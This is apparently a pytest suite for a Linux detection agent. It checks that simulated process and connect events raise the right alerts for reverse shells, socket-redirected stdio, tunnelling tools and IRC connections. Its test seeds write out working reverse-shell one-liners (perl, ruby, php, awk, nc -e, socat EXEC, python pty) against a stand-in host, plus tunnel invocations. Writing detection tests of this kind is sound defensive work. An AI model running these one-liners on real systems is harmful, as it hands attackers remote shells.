"""Detection: hand-built event sequences through the assembled pipeline (agent.assemble), checked on the alert lines."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from agent.alerts import Host
from agent.assemble import assemble
from agent.events import Event
from agent.lineage.table import ProcessTable
from agent.ruleset.load import default_rules_dir, load_rules
from agent.ruleset.rules import RuleSet
from tests.helpers.events import REMOTE, EventStream

RULES = load_rules(default_rules_dir())
HOST = Host("ci-runner-1", "host-id-1")
SCORES = {21, 47, 73, 99}


class World(EventStream):
    """A process table and a detection engine fed the same hand-built events, collecting the alert lines."""

    def __init__(self, rules: RuleSet = RULES):
        super().__init__()
        self.table = ProcessTable()
        self.alerts: list[dict[str, Any]] = []
        self.kernel_writes: list[tuple[int, int, int, int, int]] = []
        self.pipeline = assemble(rules, self.table, [self.alerts.append], host=HOST, boot_offset_ns=0, kernel=self)
        self.engine, self.tagger = self.pipeline.detection, self.pipeline.tagger

    def feed(self, event: Event) -> None:
        errors = self.pipeline.consumer_errors
        self.pipeline.feed(event)
        assert self.pipeline.consumer_errors == errors, "detection raised (logged above)"

    # The kernel's side of context tagging (agent.assemble.KernelContexts): the writes are recorded.
    def set_context_executables(self, names: dict[str, int]) -> None:
        pass

    def write_context(self, pid: int, start_time: int, context: int, root_pid: int, root_start: int) -> None:
        self.kernel_writes.append((pid, start_time, context, root_pid, root_start))

    def bash(self, pid: int = 200, t: float = 0.0) -> None:
        """An sshd (pid 100) with a bash child ``pid``."""
        if 100 not in self.start:
            self.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@pts/0",), t=t)
        self.spawn(pid, 100, "/usr/bin/bash", ("bash",), t=t + 0.01)

    def signals(self) -> set[str]:
        return {s for a in self.alerts for s in a["chainwatch"]["signals"]}


def check_contract(alert: dict[str, Any]) -> None:
    """Every key the alert contract requires, and destination when a network signal is part of it."""
    assert alert["@timestamp"].endswith("Z")
    assert alert["event"]["kind"] == "alert"
    assert alert["event"]["id"] and alert["event"]["reason"]
    assert alert["event"]["severity"] in SCORES
    assert alert["rule"]["id"] and alert["rule"]["name"] and alert["rule"]["ruleset"] == "chainwatch"
    assert alert["host"] == {"hostname": HOST.hostname, "id": HOST.id}
    proc = alert["process"]
    for key in ("pid", "entity_id", "name", "executable", "args"):
        assert key in proc
    cw = alert["chainwatch"]
    assert cw["severity"] in ("low", "medium", "high", "critical")
    assert cw["incident"]["id"] and cw["signals"] and isinstance(cw["ancestry"], list)
    network = {"shell_network_connection", "interpreter_reverse_shell", "stdio_to_socket", "irc_connection"}
    if network & set(cw["signals"]):
        assert alert["destination"]["ip"] and alert["destination"]["port"]


# ---------------------------------------------------------------- Sigma: shell_network_connection


def test_sigma_bash_remote_connect_alerts_once_with_context() -> None:
    """bash connecting to a remote address gives one shell_network_connection alert with full context."""
    w = World()
    w.bash()
    w.connect(200, REMOTE, 4444, t=0.5)
    assert len(w.alerts) == 1
    a = w.alerts[0]
    check_contract(a)
    assert a["chainwatch"]["signals"] == ["shell_network_connection"]
    assert a["rule"]["id"] == "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
    assert a["destination"] == {"ip": REMOTE, "port": 4444}
    assert a["process"]["executable"] == "/usr/bin/bash" and a["process"]["pid"] == 200
    assert a["process"]["parent"]["executable"] == "/usr/sbin/sshd" and a["process"]["parent"]["pid"] == 100
    assert a["chainwatch"]["ancestry"][0]["name"] == "sshd"
    assert a["event"]["severity"] == 21 and a["chainwatch"]["severity"] == "low"  # a notice: a probe


@pytest.mark.parametrize("daddr", ["127.0.0.1", "::1", "169.254.1.1", "224.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"])
def test_sigma_local_destinations_ignored(daddr: str) -> None:
    """A shell connecting to a local address (loopback, link-local, multicast, unspecified) is no alert."""
    w = World()
    w.bash()
    w.connect(200, daddr, 4444, t=0.5)
    assert w.alerts == []


def test_sigma_non_shell_remote_connect_ignored() -> None:
    """curl connecting to a remote address is not a shell connecting."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/bin/curl", ("curl", f"http://{REMOTE}/"), t=0.1)
    w.connect(300, REMOTE, 80, t=0.2)
    assert w.alerts == []


@pytest.mark.parametrize("result,alerts", [(0, 1), (-115, 1), (-11, 1), (-114, 1), (-111, 0), (-101, 0)])
def test_sigma_connect_results(result: int, alerts: int) -> None:
    """Only attempts count (0, -EINPROGRESS, -EAGAIN, -EALREADY); an immediate failure such as -ECONNREFUSED not."""
    w = World()
    w.bash()
    w.connect(200, REMOTE, 4444, t=0.5, result=result)
    assert len(w.alerts) == alerts


def test_exception_destination_cidrs_suppresses_sigma(tmp_path: Path) -> None:
    """A rule's exceptions.destination_cidrs removes alerts for that range and keeps others."""
    rules_dir = tmp_path / "rules"
    shutil.copytree(default_rules_dir(), rules_dir)
    path = rules_dir / "shell-network-connection.yaml"
    text = path.read_text()
    assert text.count("destination_cidrs: []") == 1
    path.write_text(text.replace("destination_cidrs: []", 'destination_cidrs: ["198.51.100.0/24"]'))
    rules = load_rules(rules_dir)
    w = World(rules)
    w.bash()
    w.connect(200, REMOTE, 4444, t=0.5)
    assert w.alerts == []
    w.bash(pid=201, t=1)
    w.connect(201, "203.0.113.9", 4444, t=1.5)
    assert [a["destination"]["ip"] for a in w.alerts] == ["203.0.113.9"]


# ---------------------------------------------------------------- Elastic: interpreter_reverse_shell

PTY = ("python3.11", "-c", "import pty;pty.spawn('/bin/sh')")


def test_elastic_python_pty_then_connect_within_window() -> None:
    """python -c pty.spawn under bash, then a remote connect within 1 s, is interpreter_reverse_shell."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/bin/python3.11", PTY, t=1.0)
    w.connect(300, REMOTE, 4444, t=1.5)
    assert len(w.alerts) == 1
    a = w.alerts[0]
    check_contract(a)
    assert a["chainwatch"]["signals"] == ["interpreter_reverse_shell"]
    assert a["process"]["executable"] == "/usr/bin/python3.11" and a["process"]["args"] == list(PTY)
    assert a["process"]["parent"]["executable"] == "/usr/bin/bash"
    assert a["destination"] == {"ip": REMOTE, "port": 4444}
    assert a["event"]["severity"] == 47


def test_elastic_connect_after_window_ignored() -> None:
    """The same one-liner connecting 1.5 s after its exec is outside the 1 s window."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/bin/python3.11", PTY, t=1.0)
    w.connect(300, REMOTE, 4444, t=2.5)
    assert w.alerts == []


def test_elastic_parent_not_shell_ignored() -> None:
    """A one-liner whose parent is make (not a shell or interpreter) is not the Elastic shape."""
    w = World()
    w.spawn(150, None, "/usr/bin/make", ("make", "install"))
    w.spawn(300, 150, "/usr/bin/python3.11", PTY, t=1.0)
    w.connect(300, REMOTE, 4444, t=1.2)
    assert w.alerts == []


def test_elastic_local_connect_ignored() -> None:
    """A one-liner that only connects to loopback is no alert."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/bin/python3.11", PTY, t=1.0)
    w.connect(300, "127.0.0.1", 4444, t=1.2)
    assert w.alerts == []


FIFO = ("fifo", "fifo", "chr")
SEEDS = [
    (
        "/usr/bin/perl",
        (
            "perl",
            "-e",
            'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
        ),
        None,
        True,
    ),
    (
        "/usr/bin/ruby3.1",
        (
            "ruby3.1",
            "-rsocket",
            "-e",
            'f=TCPSocket.open("198.51.100.2",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        ),
        None,
        True,
    ),
    (
        "/usr/bin/lua5.4",
        (
            "lua5.4",
            "-e",
            "local s=require('socket');local t=socket.tcp();"
            "t:connect('198.51.100.2','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')",
        ),
        None,
        True,
    ),
    ("/usr/bin/php", ("php", "-r", '$s=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");'), None, True),
    ("/usr/bin/awk", ("awk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while (1) {s |& getline c}}'), None, True),
    ("/usr/bin/gawk", ("gawk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"}'), None, True),
    ("/usr/bin/openssl", ("openssl", "s_client", "-quiet", "-connect", "198.51.100.2:4444"), FIFO, False),
    ("/usr/bin/openssl", ("openssl", "s_client", "-connect", "198.51.100.2:443"), None, False),
    ("/usr/bin/nc", ("nc", "-e", "/bin/sh", "198.51.100.2", "4444"), None, True),
    ("/usr/bin/nc", ("nc", "-z", "-e", "/bin/sh", "198.51.100.2", "4444"), None, False),
    ("/usr/bin/nc", ("nc", "198.51.100.2", "4444"), None, False),
    # telnet and openssl are judged by the stdio graph (a relay to a shell), not by their argv alone
    ("/usr/bin/telnet", ("telnet", "198.51.100.2", "4444"), None, False),
    ("/usr/bin/ncat", ("ncat", "--sh-exec", "/bin/sh", "198.51.100.2", "4444"), None, True),
    ("/usr/bin/python3", ("python3", "-c", "print('hello')"), None, False),
    ("/usr/bin/perl", ("perl", "-e", "print 1"), None, False),
]


@pytest.mark.parametrize("filename,args,stdio,expected", SEEDS, ids=[" ".join(s[1][:2]) + f"-{s[3]}" for s in SEEDS])
def test_elastic_seed_patterns(
    filename: str, args: tuple[str, ...], stdio: tuple[str, ...] | None, expected: bool
) -> None:
    """Each seed one-liner under bash followed by a remote connect alerts; the benign variants do not."""
    w = World()
    w.bash()
    w.spawn(300, 200, filename, args, t=1.0, stdio=stdio or ("chr", "chr", "chr"))
    w.connect(300, REMOTE, 4444, t=1.3)
    assert ("interpreter_reverse_shell" in w.signals()) is expected
    if expected:
        assert len(w.alerts) == 1
        check_contract(w.alerts[0])


def test_elastic_fork_of_pending_interpreter_inherits_window() -> None:
    """A fork of the pending one-liner that connects within the window raises the alert for the child."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/bin/python3.11", PTY, t=1.0)
    w.fork(301, 300, t=1.2)
    w.connect(301, REMOTE, 4444, t=1.4)
    assert len(w.alerts) == 1
    a = w.alerts[0]
    assert a["chainwatch"]["signals"] == ["interpreter_reverse_shell"]
    assert a["process"]["pid"] == 301
    assert a["process"]["parent"]["pid"] == 300


# ---------------------------------------------------------------- stdio_to_socket


def test_stdio_dups_one_incident_one_line() -> None:
    """Three remote-socket dups onto fds 0, 1 and 2 give one alert line; the later two are suppressed."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/tmp/payload", ("/tmp/payload",), t=1.0)
    for fd in (0, 1, 2):
        w.dup(300, fd, t=1.1 + fd / 100)
    assert len(w.alerts) == 1
    check_contract(w.alerts[0])
    assert w.alerts[0]["chainwatch"]["signals"] == ["stdio_to_socket"]
    assert w.alerts[0]["destination"] == {"ip": REMOTE, "port": 4444}
    # fd 0 makes it read its commands from the socket; fds 1 and 2 alone are a redirection (a port probe)
    assert w.engine.stats() == {"signals": 1, "alerts": 1, "alerts_suppressed": 0}


@pytest.mark.parametrize("family,daddr", [("unix", ""), ("ipv4", "127.0.0.1"), ("ipv6", "::1")])
def test_stdio_dup_local_or_unix_ignored(family: str, daddr: str) -> None:
    """A unix socket or a loopback peer on stdio is no alert."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/tmp/payload", ("/tmp/payload",), t=1.0)
    for fd in (0, 1, 2):
        w.dup(300, fd, t=1.1, daddr=daddr, family=family)
    assert w.alerts == []


def test_stdio_shell_exec_on_socket() -> None:
    """A shell exec'd with a remote socket as stdin is stdio_to_socket, with the socket's destination."""
    w = World()
    w.spawn(150, None, "/usr/bin/socat", ("socat", "TCP-LISTEN:9000", "STDOUT"))
    w.spawn(
        300,
        150,
        "/bin/sh",
        ("sh", "-i"),
        t=1.0,
        stdio=("socket", "socket", "socket"),
        stdio_socket_fd=0,
        stdio_family="ipv4",
        stdio_transport="tcp",
        stdio_daddr=REMOTE,
        stdio_dport=4444,
    )
    assert len(w.alerts) == 1
    check_contract(w.alerts[0])
    assert w.alerts[0]["chainwatch"]["signals"] == ["stdio_to_socket"]
    assert w.alerts[0]["destination"] == {"ip": REMOTE, "port": 4444}


def test_stdio_shell_exec_on_loopback_socket_ignored() -> None:
    """A shell exec'd on a loopback socket is no alert."""
    w = World()
    w.spawn(
        300,
        None,
        "/bin/sh",
        ("sh",),
        stdio=("socket", "socket", "socket"),
        stdio_socket_fd=0,
        stdio_family="ipv4",
        stdio_transport="tcp",
        stdio_daddr="127.0.0.1",
        stdio_dport=4444,
    )
    assert w.alerts == []


# ---------------------------------------------------------------- tunnel_tool


def test_tunnel_chisel_then_destination_update() -> None:
    """chisel client alerts at exec without destination; its connect adds one update line, same incident."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/usr/local/bin/chisel", ("chisel", "client", f"{REMOTE}:8000", "R:socks"), t=1.0)
    assert len(w.alerts) == 1
    first = w.alerts[0]
    check_contract(first)
    assert first["chainwatch"]["signals"] == ["tunnel_tool"]
    assert "destination" not in first
    w.connect(300, REMOTE, 8000, t=3.0)
    w.connect(300, REMOTE, 8000, t=3.5)  # nothing new: no line
    assert len(w.alerts) == 2
    second = w.alerts[1]
    check_contract(second)
    assert second["chainwatch"]["incident"]["id"] == first["chainwatch"]["incident"]["id"]
    assert second["destination"] == {"ip": REMOTE, "port": 8000}


def test_tunnel_connect_after_window_has_no_destination_update() -> None:
    """chisel's first connect 6 s after its exec does not update the alert."""
    w = World()
    w.spawn(300, None, "/usr/local/bin/chisel", ("chisel", "client", f"{REMOTE}:8000", "R:socks"))
    w.connect(300, REMOTE, 8000, t=6.0)
    assert len(w.alerts) == 1


@pytest.mark.parametrize(
    "filename,args,expected",
    [
        ("/usr/bin/ssh", ("ssh", "-R8080:localhost:80", "user@198.51.100.2"), True),
        ("/usr/bin/ssh", ("ssh", "-D", "1080", "user@198.51.100.2"), True),
        ("/usr/bin/ssh", ("ssh", "user@198.51.100.2"), False),
        ("/usr/bin/ssh", ("ssh", "-W", "db:22", "bastion"), False),  # -W (stdio forward) is not -w (tun device)
        ("/usr/bin/socat", ("socat", "TCP:198.51.100.2:1", "EXEC:/bin/sh"), True),
        ("/usr/bin/socat", ("socat", "tcp:198.51.100.2:1", "exec:/bin/sh,pty"), True),
        ("/usr/bin/socat", ("socat", "TCP-LISTEN:8000", "STDOUT"), False),
        ("/usr/local/bin/ngrok", ("ngrok", "tcp", "22"), True),
        ("/usr/local/bin/frpc", ("frpc", "-c", "frpc.toml"), True),
    ],
)
def test_tunnel_invocations(filename: str, args: tuple[str, ...], expected: bool) -> None:
    """Tunnel tools alert only with the arguments that open a tunnel."""
    w = World()
    w.bash()
    w.spawn(300, 200, filename, args, t=1.0)
    assert ("tunnel_tool" in w.signals()) is expected


def test_tunnel_renamed_binary_not_detected_known_limit() -> None:
    """Known limit: chisel copied to /tmp/x is not recognised (matching is by executable basename)."""
    w = World()
    w.bash()
    w.spawn(300, 200, "/tmp/x", ("chisel", "client", f"{REMOTE}:8000", "R:socks"), t=1.0)
    w.connect(300, REMOTE, 8000, t=1.5)
    assert w.alerts == []


# ---------------------------------------------------------------- irc_connection


def test_irc_remote_port() -> None:
    """A connect to a remote IRC port (6667) is irc_connection."""
    w = World()
    w.spawn(300, None, "/tmp/bot", ("/tmp/bot",))
    w.connect(300, REMOTE, 6667, t=5)
    assert len(w.alerts) == 1
    check_contract(w.alerts[0])
    assert w.alerts[0]["chainwatch"]["signals"] == ["irc_connection"]
    assert w.alerts[0]["destination"] == {"ip": REMOTE, "port": 6667}


def test_irc_loopback_ignored() -> None:
    """An IRC port on loopback is no alert."""
    w = World()
    w.spawn(300, None, "/tmp/bot", ("/tmp/bot",))
    w.connect(300, "127.0.0.1", 6667, t=5)
    assert w.alerts == []


# ---------------------------------------------------------------- correlation


def test_correlation_interpreter_and_child_dup_one_incident() -> None:
    """The python one-liner's signal and its forked shell's socket dup are one incident, two lines."""
    w = World()
    w.bash()
    w.spawn(
        300,
        200,
        "/usr/bin/python3.11",
        (
            "python3.11",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.2',4444));pty.spawn('/bin/sh')",
        ),
        t=1.0,
    )
    w.connect(300, REMOTE, 4444, t=1.1)
    w.spawn(301, 300, "/bin/sh", ("/bin/sh",), t=1.2)
    for fd in (0, 1, 2):
        w.dup(301, fd, t=1.3)
    assert len(w.alerts) == 2
    first, second = w.alerts
    assert first["chainwatch"]["incident"]["id"] == second["chainwatch"]["incident"]["id"]
    assert first["chainwatch"]["signals"] == ["interpreter_reverse_shell"]
    assert second["chainwatch"]["signals"] == ["interpreter_reverse_shell", "stdio_to_socket"]
    assert second["process"]["pid"] == 301
    assert second["event"]["severity"] == 73  # rose from medium to high
    for a in w.alerts:
        check_contract(a)


def test_correlation_unrelated_shells_two_incidents() -> None:
    """Two sibling bash shells connecting out are two incidents."""
    w = World()
    w.bash(pid=200)
    w.bash(pid=201, t=0.5)
    w.connect(200, REMOTE, 4444, t=1)
    w.connect(201, "203.0.113.9", 4444, t=2)
    assert len(w.alerts) == 2
    assert len({a["chainwatch"]["incident"]["id"] for a in w.alerts}) == 2
    assert len({a["event"]["id"] for a in w.alerts}) == 2


def test_correlation_repeat_signal_suppressed() -> None:
    """The same shell connecting again to the same place writes no second line; a new destination does."""
    w = World()
    w.bash()
    w.connect(200, REMOTE, 4444, t=1)
    w.connect(200, REMOTE, 4444, t=2)
    assert len(w.alerts) == 1
    assert w.engine.stats()["alerts_suppressed"] == 1
    w.connect(200, REMOTE, 4445, t=3)
    assert len(w.alerts) == 2 and w.alerts[1]["destination"] == {"ip": REMOTE, "port": 4445}
    assert w.alerts[0]["chainwatch"]["incident"] == w.alerts[1]["chainwatch"]["incident"]


def test_all_scenarios_meet_contract_and_severity_scale() -> None:
    """Across a mixed run every alert meets the contract and its severity is one of 21/47/73/99."""
    w = World()
    w.bash()
    w.connect(200, REMOTE, 4444, t=0.5)
    w.spawn(300, 200, "/usr/bin/python3.11", PTY, t=1.0)
    w.connect(300, REMOTE, 4444, t=1.1)
    w.spawn(400, 100, "/usr/local/bin/chisel", ("chisel", "server", "--reverse"), t=2)
    w.connect(400, REMOTE, 8000, t=2.5)
    w.spawn(500, None, "/tmp/bot", ("/tmp/bot",), t=3)
    w.connect(500, REMOTE, 6667, t=3.5)
    w.dup(500, 0, t=3.6)
    assert len(w.alerts) >= 5
    for a in w.alerts:
        check_contract(a)
        assert a["event"]["severity"] in SCORES
